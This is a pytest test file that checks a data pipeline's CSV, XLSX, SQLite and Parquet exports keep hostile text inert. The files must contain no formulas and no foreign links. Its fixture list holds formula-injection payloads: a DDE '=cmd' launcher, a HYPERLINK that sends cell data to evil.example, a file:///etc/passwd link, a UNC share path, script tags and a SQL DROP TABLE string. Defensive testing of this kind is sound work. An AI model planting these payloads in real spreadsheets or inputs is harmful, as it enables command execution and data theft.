"""Hostile words of a release stay words in every format: nothing is calculated, nothing is a link.

A release is anybody's text: its title, names and address may be made to run in the program that
opens our tables.
"""

import sqlite3
from collections.abc import Callable
from contextlib import closing
from functools import cache
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest
from openpyxl.utils.escape import unescape

from pipeline.active_cells import unguarded
from pipeline.records import Extraction
from pipeline.write.formats.fitting import readable
from pipeline.write.options import WriteOptions
from pipeline.write.stage import write

HOSTILE = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "{=1+1}",
    "javascript:alert(1)",
    "file:///etc/passwd",
    "http://evil.example/#x",
    "mailto:a@evil.example",
    "internal:'persons'!A1",
    "external:evil.xlsx",
    r"\\evil.example\share",
    "<script>alert(1)</script>",
    "<r><t>x</t></r>",
    "</t></is></c><f>1+1</f>",
    "]]>&lt;b&gt;&amp;",
    "_x003D_1+1",
    "Pia\x00Sund",
    "Pia\x07\x1b[31mSund",
    "Pia\N{RIGHT-TO-LEFT OVERRIDE}dnuS",
    "'; DROP TABLE persons; --",
    'a"; b, c\nd',
)
Make = Callable[..., Extraction]
EVERY = WriteOptions(formats=("csv", "xlsx", "sqlite", "parquet", "json"), report=True)


def hostile_release(make: Make, number: int, words: str) -> Extraction:
    """Return a release whose title, address, person, party and country are made of `words`."""
    made = make(number)
    pia, *others = made.record.persons
    party, *parties = made.record.parties
    country, *countries = made.record.countries
    more = {
        "title": words,
        "url": words,
        "publisher": words,
        "persons": (pia.model_copy(update={"name": words, "evidence": words}), *others),
        "parties": (party.model_copy(update={"name": words}), *parties),
        "countries": (country.model_copy(update={"name": words}), *countries),
    }
    return Extraction(made.release, made.record.model_copy(update=more))


@pytest.fixture(scope="module")
def folder(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("hostile") / "out"


@pytest.fixture
def written(make: Make, folder: Path) -> Path:
    """Return an output in which each hostile text stands in a release of its own."""
    if not folder.exists():
        given = (hostile_release(make, *one) for one in enumerate(HOSTILE))
        write(given, folder, EVERY, [])
    return folder


PLACES = [
    ("releases", "title"), ("releases", "url"), ("releases", "publisher"),
    ("parties", "name"), ("countries", "name"), ("persons", "evidence"),
]  # fmt: skip


def in_csv(folder: Path, table: str, column: str) -> list[str]:
    frame = pd.read_csv(folder / f"{table}.csv", dtype=str, keep_default_na=False)
    return [unguarded(cell) for cell in frame[column]]


def in_parquet(folder: Path, table: str, column: str) -> list[str]:
    return pq.read_table(folder / "parquet" / table)[column].to_pylist()


def in_sqlite(folder: Path, table: str, column: str) -> list[str]:
    with closing(sqlite3.connect(folder / "rollcall.sqlite")) as database:
        return [one for (one,) in database.execute(f'SELECT "{column}" FROM "{table}"')]


@cache
def opened(path: Path) -> openpyxl.Workbook:
    """Return a workbook, read once for all tests."""
    return openpyxl.load_workbook(path)


def in_workbook(folder: Path, table: str, column: str) -> list[str]:
    heads, *rows = opened(folder / "rollcall.xlsx")[table].iter_rows()
    at = [cell.value for cell in heads].index(column)
    return [unescape(row[at].value or "") for row in rows]


@pytest.mark.parametrize(("table", "column"), PLACES)
@pytest.mark.parametrize("read", [in_csv, in_parquet, in_sqlite])
def test_hostile_words_come_back_as_they_were(written: Path, read, table, column) -> None:
    cells = read(written, table, column)
    assert [one for one in HOSTILE if one not in cells] == []


@pytest.mark.parametrize(("table", "column"), PLACES)
def test_a_workbook_shows_them_as_text(written: Path, table: str, column: str) -> None:
    cells = in_workbook(written, table, column)
    assert [one for one in map(readable, HOSTILE) if one not in cells] == []


def test_no_cell_of_csv_begins_like_a_formula(written: Path) -> None:
    for path in written.glob("*.csv"):
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        cells = [cell for column in frame for cell in frame[column]]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_a_workbook_holds_no_formula_and_no_link_but_those_into_its_report(written: Path) -> None:
    with ZipFile(written / "rollcall.xlsx") as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
        assert not [name for name in sheets if b"<f>" in book.read(name)]
        relations = [one for one in book.namelist() if one.startswith("xl/worksheets/_rels/")]
        for name in relations:
            text = book.read(name).decode()
            assert text.count("Target=") == text.count('Target="report.html"') == 1
    links = {
        cell.hyperlink.target or cell.hyperlink.location.partition("!")[0]
        for sheet in opened(written / "rollcall.xlsx")
        for row in sheet.iter_rows()
        for cell in row
        if cell.hyperlink
    }
    sheets = opened(written / "rollcall.xlsx").sheetnames
    assert links <= {"report.html", *(f"'{one}'" for one in sheets)}


def test_every_cell_of_a_workbook_is_text_number_or_day(written: Path) -> None:
    book = opened(written / "rollcall.xlsx")
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert kinds <= {"s", "inlineStr", "n", "d"}


def test_the_pivots_show_hostile_names_as_text(written: Path) -> None:
    sheet = opened(written / "rollcall.xlsx")["pivots"]
    cells = {unescape(cell.value) for cell in sheet["A"] if cell.value}
    assert readable("=1+1") in cells
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
